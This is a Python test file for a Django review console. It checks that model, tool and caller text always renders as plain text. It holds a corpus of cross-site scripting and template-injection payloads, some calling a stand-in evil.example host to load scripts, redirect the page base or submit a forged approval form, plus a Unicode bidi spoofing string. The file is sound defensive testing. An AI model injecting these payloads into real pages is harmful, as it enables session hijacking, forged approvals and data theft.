"""Text of the model, of tools and of callers stays text on every page."""

from __future__ import annotations

from typing import Any

import pytest
from django.test import Client

from agentcore.values import AttemptKind
from runs.models import Attempt, Incident
from tests.console.dom import Page
from tests.console.world import Desk
from tests.factories import (
    Waiting,
    force_state,
    make_agent_version,
    make_run,
    make_user,
    make_waiting,
)

pytestmark = pytest.mark.django_db

CORPUS = (
    "<script>alert(1)</script>",
    "</pre></td></table><script src=//evil.example/x.js></script>",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>click</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><button name=decision value=APPROVE>Approve</button></form>",
    "</textarea></form><base href=//evil.example>",
    "{{ request.user.password }}{% debug %}",
    "![x](https://evil.example/x.png) [y](javascript:alert(1))",
    "<!-- --!><script>alert(1)</script>",
)
BIDI = "Refund \u202e00.008\u202c to\u200bAda\u2066\x07\u00a0\u3164"


def everywhere(text: str) -> Waiting:
    """A waiting run with `text` in every field that somebody else writes."""
    run = make_run(
        principal=f"token:{text}"[:200],
        input={"request": text, "more": [text]},
        metadata={"k": text},
        agent_version=make_agent_version(name=text[:80], version=text[:40]),
    )
    fields: dict[str, Any] = {
        "tool": text[:120],
        "tool_version": text[:40],
        "call_id": text,
        "arguments": {text: text, "list": [text, {"deep": text}]},
        "resource_key": text[:200],
        "policy_rule": text[:200],
        "policy_version": text[:80],
        "bound_version": text[:200],
    }
    impact = {
        "summary": text,
        "before": {text: text},
        "after": {text: f"{text}!", "new": text},
        "block": [text],
        "version": text,
    }
    turn = {"text": text, "problem": text, "output": text, "model": text[:120]}
    waiting = make_waiting(
        run=run, action=fields, impact=impact, turn=turn, rule=text[:200], role=text[:80]
    )
    force_state(
        waiting.action,
        detail=text,
        reason=text[:60],
        result={text: text},
        observation=text,
        error_class=text[:80],
        downstream_ref=text[:200],
    )
    force_state(waiting.run, reason=text, business_outcome=text[:40], output={"answer": text})
    _attempt(waiting, text)
    Incident.objects.create(run=run, kind=text[:40], detail=text, created_at=waiting.run.created_at)
    return waiting


def _attempt(waiting: Waiting, text: str) -> None:
    at = waiting.run.created_at
    Attempt.objects.create(
        run=waiting.run,
        action=waiting.action,
        turn=1,
        kind=AttemptKind.PRECHECK,
        n=1,
        fence=0,
        worker=waiting.run.pk,
        input_revision=1,
        send_by=at,
        started_at=at,
        ended_at=at,
        outcome="SUCCESS",
        result={text: text},
        detail=text,
        error_class=text[:80],
        reference=text[:200],
    )


def pages_of(waiting: Waiting) -> list[str]:
    rows = Desk(waiting, waiting.action, waiting.run)
    apart = ("/unknown/", "/edit/", "/turn/1/", "/help/")  # not about this row, or not for it
    return [url for url in rows.pages() if not any(word in url for word in apart)]


ABOUT = ("/review/", "/change/", "/admin/runs/actionjournal/", "/admin/runs/incident/")


@pytest.fixture
def root() -> Client:
    client = Client()
    client.force_login(make_user("root", superuser=True))
    return client


LOCAL = ("/admin/", "/static/", "?", "#", "../", ".")


def faults_of(page: Page) -> list[str]:
    """Elements and attributes that could run, load or send something that is not ours."""
    found = []
    for element in page.elements:
        for name, value in element.attributes.items():
            if name.startswith("on") or name in {"style", "srcdoc", "autofocus"}:
                found.append(f"<{element.tag} {name}>")
            loads = name in {"src", "href", "action", "formaction"} and value
            if loads and not value.startswith(LOCAL):
                found.append(f"<{element.tag} {name}={value}>")
        if element.tag in {"iframe", "object", "embed", "base", "style"}:
            found.append(f"<{element.tag}>")
        if element.tag == "script" and "src" not in element.attributes:
            found.append("<script> inline")
    return found


@pytest.mark.parametrize("text", CORPUS)
def test_text_from_outside_stays_text(root: Client, text: str) -> None:
    waiting = everywhere(text)
    plain = make_waiting()
    for url, harmless in zip(pages_of(waiting), pages_of(plain), strict=True):
        response = root.get(url)
        assert response.status_code == 200, url
        page = Page(response.content.decode())
        assert faults_of(page) == [], url
        scripts = [e for e in page.elements if e.tag == "script"]
        ours = [e for e in Page(root.get(harmless).content.decode()).elements if e.tag == "script"]
        assert scripts == ours, url
    item = Page(root.get(f"/admin/review/{waiting.approval.pk}/").content.decode())
    assert text in item.text_of("blockquote")[0] or "  " in text


def test_what_cannot_be_seen_is_shown(root: Client) -> None:
    waiting = everywhere(BIDI)
    for url in pages_of(waiting):
        html = root.get(url).content.decode()
        for hidden in "\u202e\u202c\u200b\u2066\x07\u3164":
            assert hidden not in html, (url, hex(ord(hidden)))
        if any(part in url for part in ABOUT) and "tab=raw" not in url and "tab=cost" not in url:
            assert "⟨U+202E⟩" in html, url


def test_the_policy_allows_nothing_inline_and_nothing_remote(root: Client) -> None:
    waiting = make_waiting()
    for url in pages_of(waiting):
        policy = root.get(url)["Content-Security-Policy"]
        assert "default-src 'none'" in policy
        assert "unsafe" not in policy
        assert "http" not in policy
